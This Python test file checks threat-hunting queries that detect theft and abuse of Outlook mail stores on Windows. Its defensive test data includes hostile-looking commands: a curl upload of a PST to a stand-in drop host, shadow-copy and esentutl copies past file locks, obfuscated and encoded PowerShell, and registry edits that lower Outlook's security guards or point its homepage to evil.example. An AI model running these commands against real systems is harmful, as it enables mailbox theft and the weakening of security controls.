"""Mail taken from a desktop: which acts are reported, how heavy they are, and which are left alone."""

from __future__ import annotations

from hunt.hunting import gather
from hunt.registry import select
from tests.helpers import OUTLOOK, POWERSHELL, Row, case, event, guid, moment, start
from tests.queries.collected import (
    SYSTEM,
    apart,
    audited,
    block,
    check,
    did,
    found,
    loaded,
    setting,
    severities,
    wrote,
)

CMD = start(r"C:\Windows\System32\cmd.exe")
NOTEPAD = start(r"C:\Windows\System32\notepad.exe")
EXPLORER = start(r"C:\Windows\explorer.exe")
BACKUP = start(r"C:\Program Files\Backup\agent.exe", **SYSTEM)
SERVICE = start(r"C:\Windows\System32\svchost.exe", **SYSTEM)
TEMP = start(r"C:\Users\alice\AppData\Local\Temp\x.exe")
OWN = start(OUTLOOK)
FAKE = start(r"C:\Users\Public\outlook.exe")
OLK = start(r"C:\Program Files\WindowsApps\Microsoft.OutlookForWindows_1.2024.1_x64__8wekyb3d8bbwe\olk.exe")
ARCHIVE = r"D:\Mail\archive.pst"
CACHE = r"C:\Users\alice\AppData\Local\Microsoft\Outlook\a@contoso.example.ost"

# Each with its severity; None: no finding.
WRITTEN = [
    (NOTEPAD, ARCHIVE, "medium"),
    (NOTEPAD, ARCHIVE + ".bak", "medium"),
    (NOTEPAD, r"C:\ProgramData\a.pst", "high"),
    (NOTEPAD, r"D:\Mail\a.ost", "high"),
    (NOTEPAD, r"D:\x\Olk\EBWebView\Default\IndexedDB\1.blob", "high"),
    (CMD, ARCHIVE, "high"),
    (TEMP, ARCHIVE, "medium"),
    (FAKE, ARCHIVE, "high"),
    (EXPLORER, ARCHIVE, "low"),
    (EXPLORER, r"D:\Mail\a.ost", "high"),
    (BACKUP, ARCHIVE, "informational"),
    (OWN, CACHE, None),
    (start(r"D:\Apps\Office16\OUTLOOK.EXE"), CACHE, None),
    (start(r"C:\Users\alice\Office16\OUTLOOK.EXE"), CACHE, "high"),
    (OLK, r"C:\Users\alice\AppData\Local\Microsoft\Olk\EBWebView\a.log", None),
    (NOTEPAD, r"D:\Mail\archive.psta", None),
    (NOTEPAD, r"D:\folk\a.txt", None),
]


def test_a_store_that_another_program_writes() -> None:
    check("collection-mail-file-written", *(([of, wrote(of, path)], told) for of, path, told in WRITTEN))


def test_what_a_place_excuses_a_bad_signature_does_not() -> None:
    bad = loaded(BACKUP, BACKUP["Image"], signed=False)
    assert severities("collection-mail-file-written", BACKUP, bad, wrote(BACKUP, ARCHIVE)) == ["high"]


def test_stores_of_one_process_and_day_are_one_finding() -> None:
    (row,) = found("collection-mail-file-written", NOTEPAD, *(wrote(NOTEPAD, rf"D:\{n}.pst", n) for n in range(70)))
    assert (row["severity"], row["events"]) == ("high", 50)
    assert "and 67 more" in row["reason"]
    assert "70 stores" in row["reason"]
    assert (row["process_guid"], row["command_line"]) == (NOTEPAD["ProcessGuid"], NOTEPAD["CommandLine"])


def test_the_same_guid_on_another_host_is_another_process() -> None:
    other = start(r"C:\Windows\System32\cmd.exe", host="WS02", ProcessGuid=NOTEPAD["ProcessGuid"])
    rows = found("collection-mail-file-written", NOTEPAD, other, wrote(NOTEPAD, ARCHIVE), wrote(other, ARCHIVE))
    assert {(row["host"], row["severity"]) for row in rows} == {("WS01", "medium"), ("WS02", "high")}


def test_a_process_whose_start_was_not_logged_is_still_told() -> None:
    named = event(
        11, 5, ProcessGuid=guid(999), ProcessId="1", Image=r"C:\Windows\System32\any.exe", TargetFilename=ARCHIVE
    )
    bare = event(11, 5, Image=None, TargetFilename=ARCHIVE)
    check("collection-mail-file-written", ([named], "medium"), ([bare], "medium"))


# Stores that are opened.


NT = {"SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY"}
OPENED = [
    ({"ProcessName": r"C:\Windows\System32\notepad.exe"}, "medium"),
    ({"ProcessName": POWERSHELL}, "high"),
    ({"ProcessName": r"C:\Windows\System32\SearchProtocolHost.exe", **NT}, "informational"),
    ({"ProcessName": r"C:\Users\Public\SearchProtocolHost.exe", **NT}, "medium"),
    ({"ProcessName": OUTLOOK}, None),
    ({"ProcessName": POWERSHELL, "AccessMask": "0x80"}, None),
    ({"ProcessName": POWERSHELL, "AccessMask": "0x10000"}, "high"),
    ({"ProcessName": POWERSHELL, "ObjectName": r"D:\a.docx"}, None),
]
SHARED = [
    ({}, "low"),
    ({"ShareName": r"\\*\C$"}, "high"),
    ({"RelativeTargetName": r"home\alice\a.ost"}, "high"),
    ({"RelativeTargetName": r"home\alice\a.docx"}, None),
]
OF_SHARE = {
    "ShareName": r"\\*\home", "RelativeTargetName": "alice.pst", "IpAddress": "::ffff:10.0.0.9", "AccessMask": "0x1",
}  # fmt: skip


def test_a_store_that_another_program_opens() -> None:
    own = {"ObjectName": ARCHIVE, "AccessMask": "0x1", "ProcessId": "0x1f40"}
    check("collection-mail-file-opened", *(([audited(4663, **(own | more))], told) for more, told in OPENED))


def test_a_store_that_is_opened_over_a_share() -> None:
    check("collection-mail-file-opened", *(([audited(5145, **(OF_SHARE | more))], told) for more, told in SHARED))
    (row,) = found("collection-mail-file-opened", audited(5145, **OF_SHARE))
    assert (row["source_ip"], row["user"], row["techniques"]) == (
        "10.0.0.9",
        r"CONTOSO\alice",
        ["T1114.001", "T1039"],
    )


# Command lines.


LINES = [
    (r"esentutl.exe /y /vss C:\u\a.ost /d D:\a.ost", "high"),
    (
        r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Users\a\AppData\Local\Microsoft\Outlook D:\x",
        "high",
    ),
    (r"7z.exe a D:\m.7z C:\u\a.o^st", "high"),
    ('powershell Compress-Archive C:\\u\\a.p""st D:\\m.zip', "high"),
    (r"curl.exe -T C:\u\a.pst https://drop.example", "high"),
    (r"robocopy C:\u D:\u *.pst", "medium"),
    (r"xcopy C:\u\a.pst C:\ProgramData\x", "high"),
    (r"cmd /c dir /s C:\*.ost", "low"),
    (r'"C:\Program Files\Office\SCANPST.EXE" D:\a.pst', "low"),
    (r"robocopy C:\Users\a\AppData\Local\Microsoft\Olk D:\x /e", "medium"),
    (r"robocopy C:\Users\a\AppData\Local\Microsoft\Outlook D:\x /e", "medium"),
    (r"powershell Compress-Archive $env:LOCALAPPDATA\Microsoft\Outlook\* D:\x.zip", "high"),
    (r'explorer "C:\Users\a\AppData\Local\Microsoft\Outlook"', None),
    (r"robocopy C:\Users\a\AppData\Roaming\Microsoft\Outlook D:\x /e", None),
    (r'certutil -encode "D:\a.pst" D:\a.txt', "medium"),
    (r'cmd /c type "D:\a.pst" > E:\a.txt', "medium"),
    (r"cmd /c dir C:\print\*.postscript", None),
    (r"notepad D:\host.pst_notes.txt.md", None),
    (r"copy C:\a.docx D:\b.docx", None),
    (r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit D:\x", None),
    (None, None),
]


def test_command_lines_that_name_stores() -> None:
    any_ = r"C:\Windows\System32\any.exe"
    check("collection-mail-command", *(([start(any_, CommandLine=line)], told) for line, told in LINES))


def test_outlook_opens_what_it_is_told_to_and_a_service_is_low() -> None:
    opened = start(OUTLOOK, CommandLine=rf'"{OUTLOOK}" /pst "{ARCHIVE}"')
    kept = start(BACKUP["Image"], CommandLine=r"agent.exe copy D:\a.pst E:\a.pst", **SYSTEM)
    rows = found("collection-mail-command", opened, kept)
    assert [(row["image"], row["severity"]) for row in rows] == [(kept["Image"], "low")]


def test_security_tells_command_lines_as_well() -> None:
    line = {"CommandLine": r"esentutl /y C:\a.ost /d D:\b", "NewProcessId": "0x1f40"}
    (row,) = found("collection-mail-command", audited(4688, NewProcessName=r"C:\Windows\System32\esentutl.exe", **line))
    assert (row["severity"], row["user"], row["action"]) == ("high", r"CONTOSO\alice", "copy past the lock")


# Raw reads, MAPI.


def test_disks_that_are_read_past_the_file_system() -> None:
    kernel = start("System", ProcessId="4", CommandLine=None, **SYSTEM)
    named = start(r"C:\Windows\System32\any.exe", CommandLine=r"any.exe C:\a.ost D:\b")
    told = [
        (CMD, "high"),
        (NOTEPAD, "informational"),
        (TEMP, "medium"),
        (BACKUP, None),
        (kernel, None),
        (named, "high"),
    ]
    volume = r"\Device\HarddiskVolume3"
    check("collection-raw-read", *(([of, did(9, of, 5, Device=volume)], severity) for of, severity in told))


LOADED = [
    (CMD, "OLMAPI32.DLL", None, "high"),
    (NOTEPAD, "olmapi32.dll", None, "medium"),
    (NOTEPAD, "olmapi32.dll", True, "low"),
    (NOTEPAD, "olmapi32.dll", False, "high"),
    (BACKUP, "olmapi32.dll", True, "informational"),
    (CMD, "mapi32.dll", None, "high"),
    (NOTEPAD, "mapi32.dll", None, None),
    (NOTEPAD, "Microsoft.Office.Interop.Outlook.ni.dll", None, "medium"),
    (OWN, "olmapi32.dll", None, None),
    (NOTEPAD, "xolmapi32.dll", None, None),
]


def test_mapi_in_other_programs() -> None:
    def rows(of: Row, file: str, signed: bool | None) -> list[Row]:
        own = [] if signed is None else [loaded(of, of["Image"], signed=signed)]
        return [of, *own, loaded(of, rf"C:\any\{file}")]

    check("outlook-mapi-load", *((rows(of, file, signed), told) for of, file, signed, told in LOADED))


def test_windows_search_is_known_by_who_starts_it_and_where_it_lies() -> None:
    helper = r"C:\Windows\System32\SearchProtocolHost.exe"
    service = start(r"C:\Windows\System32\SearchIndexer.exe", **SYSTEM)
    own, alone = start(helper, 1, parent=service), start(helper, 1, parent=NOTEPAD)
    moved = start(r"C:\Users\alice\SearchProtocolHost.exe", 1, parent=service)
    told = [(own, "informational"), (alone, "medium"), (moved, "medium")]
    check(
        "outlook-mapi-load", *(([service, of, loaded(of, r"C:\x\olmapi32.dll", 2)], severity) for of, severity in told)
    )


# Scripts.


READS = "$o = New-Object -ComObject Outlook.Application; $o.GetNamespace('MAPI').GetDefaultFolder(6).Items"
SCRIPTS = [
    ("$o = New-Object -Com Outlook.Application; $m = $o.CreateItem(0); $m.Send()", "low"),
    (READS, "medium"),
    ("[Runtime.InteropServices.Marshal]::GetActiveObject('Outlook.Application')", "medium"),
    (READS + " | % { $_.SaveAs('C:\\x') }", "high"),
    ("$o = New-Object -Com Outlook.Application; $o.Session.AddStore('C:\\m.pst')", "high"),
    ("New-Object -Com ('Out' + 'look.App' + \"lication\")", "high"),
    ("New-Object -Com 'OUT`LOOK.a`pplication'", "high"),
    ("[Activator]::CreateInstance([Type]::GetTypeFromCLSID('0006F03A-0000-0000-C000-000000000046'))", "low"),
    ("Add-Type -AssemblyName Microsoft.Office.Interop.Outlook", "low"),
    ("Get-Process outlook # the bitmap index", None),
    ("Get-ChildItem 'C:\\Program Files\\Outlook\\Application'", None),
]


def test_scripts_that_use_outlook() -> None:
    check("outlook-object-model", *(([block(text)], told) for text, told in SCRIPTS))


def test_a_script_in_parts_is_read_whole_even_where_a_word_is_cut() -> None:
    first = block("New-Object -Com Outl", 5, part=1, of=3)
    second = block("ook.Application; $o.Get", 5.1, part=2, of=3)
    last = block("DefaultFolder(6)", 5.2, part=3, of=3)
    other = block("ook.Application", 6, part=2, of=3, block_id="b2")
    elsewhere = [block("New-Object -Com Outl", part=1, of=2), block("ook.Application", part=2, of=2, host="WS02")]
    (whole,), (lacking,), none = apart(
        "outlook-object-model",
        [last, second, first, other, block("unrelated", block_id="b3")],
        [first, second],
        elsewhere,  # a block of the same id on another host is another script
    )
    assert (whole["severity"], whole["events"]) == ("medium", 3)
    assert "only 2 of 3 parts" in lacking["reason"]
    assert none == []


def test_pipelines_tell_where_no_block_does() -> None:
    payload = 'ParameterBinding(New-Object): name="ComObject"; value="Outlook.Application"'
    told = {"channel": "Microsoft-Windows-PowerShell/Operational", "provider": "Microsoft-Windows-PowerShell"}
    pipes = [event(4103, n, Payload=payload, **{"System.ProcessID": "77"}, **told) for n in (5, 6)]
    old = event(800, 7, channel="Windows PowerShell", provider="PowerShell", Data=["New-Object", "x", payload])
    cases = [[*pipes], [old], [*pipes, old, block(READS)], [old | {"logged": moment(7200)}, block(READS)]]
    rows = apart("outlook-object-model", *cases)
    assert [[row["events"] for row in own] for own in rows] == [[2], [1], [1], [1, 1]]
    assert [[row["severity"] for row in own] for own in rows[2:]] == [["medium"], ["medium", "low"]]


# The registry, files that Outlook runs, children.


KEY = r"HKU\S-1-5-21-1\Software\Microsoft\Office\16.0\Outlook\Security"
POLICY = r"HKU\S-1-5-21-1\Software\Policies\Microsoft\Office\16.0\Outlook\Security"
LOWERED = [
    (NOTEPAD, rf"{KEY}\ObjectModelGuard", "DWORD (0x00000002)", "high"),
    (NOTEPAD, rf"{KEY}\PromptOOMSend", "DWORD (0x00000002)", "high"),
    (SERVICE, rf"{POLICY}\PromptOOMSend", "DWORD (0x00000002)", "low"),
    (CMD, rf"{POLICY}\PromptOOMSend", "DWORD (0x00000002)", "high"),
    (OWN, rf"{KEY}\Level", "DWORD (0x00000001)", "low"),
    (NOTEPAD, rf"{KEY}\Level", "DWORD (0x00000001)", "high"),
    (NOTEPAD, rf"{KEY}\Level1Remove", ".exe;.ps1", "medium"),
    (NOTEPAD, rf"{KEY}\Level1Remove", "", None),
    (NOTEPAD, rf"{KEY}\AdminSecurityMode", "DWORD (0x00000003)", "low"),
    (NOTEPAD, rf"{KEY}\ObjectModelGuard", "DWORD (0x00000001)", None),
    (NOTEPAD, rf"{KEY}\PromptOOMSend", "DWORD (0x00000000)", None),
    (NOTEPAD, rf"{KEY}\OutlookSecureTempFolder", "C:\\x", None),
    (NOTEPAD, r"HKLM\Software\Any\Security\ObjectModelGuard", "DWORD (0x00000002)", None),
]


def test_guards_that_are_lowered() -> None:
    check("outlook-security-lowered", *(([of, setting(of, key, value)], told) for of, key, value, told in LOWERED))


def test_a_command_line_tells_of_a_value_if_no_event_of_the_registry_does() -> None:
    image, line = r"C:\Windows\System32\reg.exe", rf'reg add "{KEY}" /v ObjectModelGuard /t REG_DWORD /d 2 /f'
    reg = start(image, CommandLine=line)
    read = start(image, CommandLine=rf'reg query "{KEY}" /v ObjectModelGuard')
    safe = start(image, CommandLine=line.replace("/d 2", "/d 1"))
    assert severities("outlook-security-lowered", reg, read, safe) == ["high"]
    both = reg, setting(reg, rf"{KEY}\ObjectModelGuard", "DWORD (0x00000002)")
    assert severities("outlook-security-lowered", *both) == ["high"]


def test_audited_values_count_like_sysmons() -> None:
    key = r"\REGISTRY\USER\S-1\Software\Microsoft\Office\16.0\Outlook\Security"
    more = {"NewValue": "2", "ProcessName": r"C:\Windows\System32\reg.exe", "ProcessId": "0x1f40"}
    row = audited(4657, ObjectName=key, ObjectValueName="ObjectModelGuard", **more)
    assert severities("outlook-security-lowered", row) == ["high"]


ADDIN = r"HKU\S-1-5-21-1\Software\Microsoft\Office\Outlook\Addins\Crm.Connect\LoadBehavior"
PAGE = r"HKU\S-1-5-21-1\Software\Microsoft\Office\16.0\Outlook\WebView\Inbox\URL"
SET = [
    (NOTEPAD, PAGE, "http://evil.example", "high"),
    (NOTEPAD, PAGE, "", "informational"),
    (NOTEPAD, PAGE, "(Empty)", "informational"),
    (NOTEPAD, ADDIN, "DWORD (0x00000003)", "medium"),
    (CMD, ADDIN, "DWORD (0x00000003)", "high"),
    (OWN, ADDIN, "DWORD (0x00000003)", "informational"),
    (SERVICE, ADDIN, "DWORD (0x00000003)", "informational"),
    (CMD, ADDIN, "DWORD (0x00000002)", None),
]
PUT = [
    (NOTEPAD, r"C:\Users\a\AppData\Roaming\Microsoft\Outlook\VbaProject.OTM", "high"),
    (OWN, r"C:\Users\a\AppData\Roaming\Microsoft\Outlook\VbaProject.OTM", "low"),
    (OWN, r"C:\Users\a\AppData\Local\Microsoft\FORMS\IPM.Note.Evil\1.dat", "low"),
    (NOTEPAD, r"C:\Users\a\AppData\Local\Microsoft\FORMS\IPM.Note.Evil\1.dat", "medium"),
    (OWN, r"C:\Users\a\AppData\Local\Microsoft\FORMS\FRMCACHE.DAT", None),
    (NOTEPAD, r"C:\Users\a\AppData\Roaming\Microsoft\Outlook\Outlook.srs", None),
]


def test_what_is_put_where_outlook_runs_it() -> None:
    values = (([of, setting(of, key, value)], told) for of, key, value, told in SET)
    check("outlook-persistence", *values, *(([of, wrote(of, path)], told) for of, path, told in PUT))


RUNDLL = r"C:\Windows\System32\rundll32.exe"
CHILDREN = [
    (POWERSHELL, "powershell -nop", "medium"),
    (POWERSHELL, "powershell -w hidden", "high"),
    (POWERSHELL, "powershell -enco SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGo", "high"),
    (RUNDLL, r"rundll32.exe C:\Windows\System32\shell32.dll,OpenAs_RunDLL C:\x", "low"),
    (RUNDLL, r"rundll32.exe C:\x.dll,Run", "medium"),
    (r"\\10.0.0.9\webdav\x.exe", "x.exe", "high"),
    (r"C:\Users\a\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\A1\x.exe", "x.exe", "high"),
    (r"C:\Program Files\Adobe\Acrobat.exe", "Acrobat.exe a.pdf", None),
]


def test_children_of_outlook_and_of_nobody_else() -> None:
    own = (([OWN, start(image, 5, parent=OWN, CommandLine=line)], told) for image, line, told in CHILDREN)
    other = [NOTEPAD, start(POWERSHELL, 5, parent=NOTEPAD, CommandLine="powershell -w hidden")]
    check("outlook-child", *own, (other, None))


def test_huge_and_hostile_texts_end() -> None:
    line = r"copy " + "a" * 300_000 + ".p^s^t " + "\\" * 100_000
    text = "'out' + " * 20_000 + "'look.application'"
    rows = [
        start(r"C:\Windows\System32\any.exe", CommandLine=line),
        block(text),
        wrote(NOTEPAD, "\\" * 50_000 + "a.pst"),
    ]
    names = ["collection-mail-command", "outlook-object-model", "collection-mail-file-written", "outlook-child"]
    findings, _ = gather(case(NOTEPAD, *rows), [query.hunt for query in select(names)])
    assert sorted(findings["query"]) == sorted(names[:3])
